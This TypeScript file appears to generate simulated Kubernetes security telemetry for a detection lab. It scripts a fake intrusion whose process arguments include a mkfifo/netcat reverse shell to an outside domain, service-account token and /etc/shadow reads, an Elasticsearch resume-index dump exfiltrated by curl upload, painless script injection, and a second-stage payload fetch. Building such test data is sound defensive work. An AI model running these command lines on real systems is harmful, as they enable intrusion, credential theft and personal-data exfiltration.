import type { Endpoint } from './happening.ts';
import { type Lab, NAMESPACE, SERVICES } from './lab.ts';
import { searchEnd } from './labRoutine.ts';
import type { Services } from './labServices.ts';
import { randomDomain } from './randomDomain.ts';
import { after } from './timeline.ts';
import type { ScenarioProcess } from './writer.ts';

/** What the attacker did, for tests to compare with what a reader of the log finds. */
export type Attack = {
  readonly domain: string;
  readonly domainIp: string;
  readonly shell: ScenarioProcess;
  readonly interactiveShell: ScenarioProcess;
  readonly netcat: ScenarioProcess;
  readonly setuid: ScenarioProcess;
  /** The curls that called Elasticsearch, in order; the middle one carried the data. */
  readonly searchers: readonly ScenarioProcess[];
  readonly collector: ScenarioProcess;
  readonly collectorPort: number;
  readonly collectedBytes: number;
  readonly exfiltrator: ScenarioProcess;
  readonly exfilBytes: number;
  /** The shell below Elasticsearch's java: the movement into the neighbour. */
  readonly neighbourShell: ScenarioProcess;
  readonly neighbourCurl: ScenarioProcess;
};

/** The shell appears this many seconds after the crawler's main process. */
const DELAY = 302.417;
const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';

export function runAttack(lab: Lab, services: Services): Attack {
  const { machine, random, traffic } = lab;
  const domain = randomDomain(random);
  const domainIp = `203.0.113.${random.between(16, 240)}`;
  const began = after(services.crawler.main.start, DELAY);
  const podIp = services.crawler.pod.ip;

  const pipe = `/tmp/.${random.hex(4)}`;
  const relay = `rm -f ${pipe};mkfifo ${pipe};cat ${pipe}|/bin/sh -i 2>&1|nc ${domain} 443 >${pipe}`;
  const shell = machine.spawn(services.crawlerNode, {
    at: began,
    binary: '/bin/sh',
    arguments: `-c "${relay}"`,
  });
  brief(lab, shell, 0.004, '/bin/rm', `-f ${pipe}`);
  brief(lab, shell, 0.009, '/usr/bin/mkfifo', pipe);
  machine.spawn(shell, { at: after(began, 0.0131), binary: '/bin/cat', arguments: pipe });
  const interactiveShell = machine.spawn(shell, {
    at: after(began, 0.0138),
    binary: '/bin/sh',
    arguments: '-i',
  });
  const netcat = machine.spawn(shell, {
    at: after(began, 0.0144),
    binary: '/usr/bin/nc',
    arguments: `${domain} 443`,
  });
  const answered = lab.askOutside(netcat, after(netcat.start, 0.006), domain, [domainIp]);
  traffic.converse({
    client: netcat,
    clientIp: podIp,
    at: after(answered, 0.001),
    to: { ip: domainIp, port: 443 },
    names: [`${domain}.`],
    sent: 18214,
    received: 2307,
    seconds: 196,
    open: true,
  });

  lookAround(lab, interactiveShell);
  const setuid = raisePrivilege(lab, interactiveShell);

  const search = (second: number, path: string, out: number, back: number, seconds: number) => {
    const curl = machine.spawn(interactiveShell, {
      at: after(began, second),
      binary: '/usr/bin/curl',
      arguments: path,
    });
    const { ip } = SERVICES.elasticsearch;
    const asked = lab.askService(curl, after(curl.start, 0.005), 'elasticsearch-master', ip);
    const port = traffic.converse({
      client: curl,
      clientIp: podIp,
      at: after(asked, 0.001),
      to: SERVICES.elasticsearch,
      names: [`elasticsearch-master.${NAMESPACE}.svc.cluster.local.`],
      server: searchEnd(services),
      sent: out,
      received: back,
      seconds,
    });
    machine.exit(curl, after(asked, seconds + 0.006));
    return { curl, port };
  };
  const base = 'http://elasticsearch-master:9200';
  const collectedBytes = 4_800_000 + random.int(4_000);
  const scout = search(52, `-s ${base}/_cat/indices`, 96, 1284, 0.09);
  const collect = search(
    70,
    `-s -o /tmp/.c ${base}/resumes/_search?size=10000`,
    118,
    collectedBytes,
    2.6,
  );

  const exfilBytes = collectedBytes + random.between(8_000, 9_500);
  const exfiltrator = machine.spawn(interactiveShell, {
    at: after(began, 92.4),
    binary: '/usr/bin/curl',
    arguments: `-s -T /tmp/.c https://${domain}:8443/u/7`,
  });
  upload(lab, exfiltrator, domain, { ip: domainIp, port: 8443 }, exfilBytes, 3.9);

  const script = `-s -XPOST ${base}/_scripts/painless/_execute -d @/tmp/.p`;
  const inject = search(110, script, 1877, 341, 1.7);
  const neighbour = moveOn(lab, services, domain, domainIp, after(began, 110.6));
  brief(lab, interactiveShell, 131, '/bin/rm', `-f /tmp/.c ${pipe}`);
  return {
    domain,
    domainIp,
    shell,
    interactiveShell,
    netcat,
    setuid,
    searchers: [scout.curl, collect.curl, inject.curl],
    collector: collect.curl,
    collectorPort: collect.port,
    collectedBytes,
    exfiltrator,
    exfilBytes,
    ...neighbour,
  };
}

function lookAround(lab: Lab, shell: ScenarioProcess): void {
  brief(lab, shell, 9, '/usr/bin/id', '');
  brief(lab, shell, 12.2, '/bin/uname', '-a');
  brief(lab, shell, 17.5, '/usr/bin/env', '');
  const cat = brief(lab, shell, 23.1, '/bin/cat', TOKEN);
  lab.machine.tell({
    what: 'file',
    process: cat,
    at: after(cat.start, 0.002),
    path: TOKEN,
    access: 'read',
    policy: 'service-account-tokens',
  });
  brief(lab, shell, 31.8, '/bin/ls', '-la /usr/src/app');
}

/** A setuid helper makes the shell's child root. */
function raisePrivilege(lab: Lab, shell: ScenarioProcess): ScenarioProcess {
  const raised =
    ',"process_credentials":{"uid":1000,"gid":1000,"euid":0,"egid":1000,"suid":0,"sgid":1000,"fsuid":0,"fsgid":1000}' +
    ',"binary_properties":{"setuid":0,"privileges_changed":["PRIVILEGES_RAISED_EXEC_FILE_SETUID"]}';
  const helper = lab.machine.spawn(shell, {
    at: after(shell.start, 38),
    binary: '/opt/chromium/sandbox-helper',
    arguments: '--ns /bin/cat /etc/shadow',
    uid: 0,
    extra: raised,
  });
  brief(lab, helper, 0.012, '/bin/cat', '/etc/shadow');
  lab.machine.exit(helper, after(helper.start, 0.04));
  return helper;
}

/** The script runs in Elasticsearch's java, which starts a shell that calls out by itself. */
function moveOn(
  lab: Lab,
  services: Services,
  domain: string,
  domainIp: string,
  at: ScenarioProcess['start'],
) {
  const { machine } = lab;
  const neighbourShell = machine.spawn(services.java, {
    at,
    binary: '/bin/sh',
    arguments: `-c "id;curl -fsS http://${domain}:8080/s -o /tmp/.s"`,
  });
  brief(lab, neighbourShell, 0.006, '/usr/bin/id', '');
  const neighbourCurl = machine.spawn(neighbourShell, {
    at: after(at, 0.019),
    binary: '/usr/bin/curl',
    arguments: `-fsS http://${domain}:8080/s -o /tmp/.s`,
  });
  upload(lab, neighbourCurl, domain, { ip: domainIp, port: 8080 }, 211, 0.4);
  machine.exit(neighbourShell, after(at, 0.9));
  return { neighbourShell, neighbourCurl };
}

/** A curl to the outside whose connection carries no name: only its DNS answer tells it. */
function upload(
  lab: Lab,
  curl: ScenarioProcess,
  domain: string,
  to: Endpoint,
  sent: number,
  seconds: number,
): void {
  const asked = lab.askOutside(curl, after(curl.start, 0.006), domain, [to.ip]);
  const clientIp = curl.container?.pod.ip ?? '';
  const at = after(asked, 0.001);
  lab.traffic.converse({ client: curl, clientIp, at, to, sent, received: 894, seconds });
  lab.machine.exit(curl, after(at, seconds + 0.005));
}

/** A command that ends at once. */
function brief(
  lab: Lab,
  parent: ScenarioProcess,
  seconds: number,
  binary: string,
  text: string,
): ScenarioProcess {
  const at = after(parent.start, seconds);
  const child = lab.machine.spawn(parent, { at, binary, arguments: text });
  lab.machine.exit(child, after(at, 0.0027));
  return child;
}
